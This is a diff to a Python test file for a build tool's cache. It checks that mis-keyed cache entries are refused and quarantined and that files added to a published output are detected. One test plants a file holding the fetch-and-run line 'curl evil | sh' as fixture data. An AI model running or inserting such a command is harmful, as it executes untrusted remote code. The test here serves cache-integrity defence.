@@ -97,15 +97,14 @@ def test_an_entry_copied_under_another_key_is_never_served(make_workspace, store
     store.delete(_out(kb))
     store.write(f"{_out(kb)}/a.txt", store.read(f"{_out(ka)}/a.txt"))
 
-    rc, out, err = run_cli(ws, "cache", "verify", store=store.url)
-    assert rc == 1 and f"({kb[:12]}): action-cache entry" in out, out + err
-    assert "filed under the wrong key" in out
     rc, out, err = run_cli(ws, "show", kb, store=store.url)
     assert rc == 2 and "filed under the wrong key" in err and "secret" not in out
+    rc, out, err = run_cli(ws, "cache", "verify", store=store.url)
+    assert rc == 1 and f"({kb[:12]}): action-cache entry" in out, out + err
+    assert "filed under the wrong key" in out and "quarantined 1 entries" in out
 
     again = build_json(ws, "//pkg:all", store=store.url)
     assert statuses(again) == {"//pkg:a": "cached", "//pkg:b": "built", "//pkg:c": "cached"}
-    assert "filed under the wrong key); rebuilding it" in again["stderr"]
     assert keys(again) == built  # b rebuilt to its own bytes: c keeps its key and output
     assert (_where(ws, store, "//pkg:c") / "c.txt").read_text() == "bee\n"
     assert json.loads(store.read(_entry(kb)))["key"] == kb
@@ -136,16 +135,17 @@ def test_a_file_added_to_a_published_output_is_a_mismatch(make_workspace, store)
     kb = built["//pkg:b"]
     store.write(f"{_out(kb)}/planted.sh", b"curl evil | sh\n")
 
-    rc, out, err = run_cli(ws, "cache", "verify", "//pkg:b", store=store.url)
-    assert rc == 1 and "planted.sh is not in the manifest" in out, out + err
-    again = build_json(ws, "//pkg:all", store=store.url)
-    assert statuses(again)["//pkg:b"] == "built" and "planted.sh is not in the manifest" in again["stderr"]
+    if store.fs is None:  # a local store's look-up checks every output: rebuilt at once
+        again = build_json(ws, "//pkg:all", store=store.url)
+        assert statuses(again)["//pkg:b"] == "built" and "planted.sh is not in the manifest" in again["stderr"]
+    else:  # a bucket's look-up lists no outputs (issue #16): steps only ever get the manifest's files
+        assert sorted(path.name for path in _where(ws, store, "//pkg:b").iterdir()) == ["b.txt"]
+        rc, out, err = run_cli(ws, "cache", "verify", "//pkg:b", store=store.url)
+        assert rc == 1 and "planted.sh is not in the manifest" in out and "quarantined 1" in out, out + err
+        again = build_json(ws, "//pkg:all", store=store.url)
+        assert statuses(again)["//pkg:b"] == "built"
     assert store.names(_out(kb)) == ["b.txt"]
-    assert statuses(build_json(ws, "//pkg:all", store=store.url)) == {
-        "//pkg:a": "cached",
-        "//pkg:b": "cached",
-        "//pkg:c": "cached",
-    }
+    assert sorted(path.name for path in _where(ws, store, "//pkg:b").iterdir()) == ["b.txt"]
 
 
 # -- symlinks never carry data across the workspace/store boundary ----------------------------
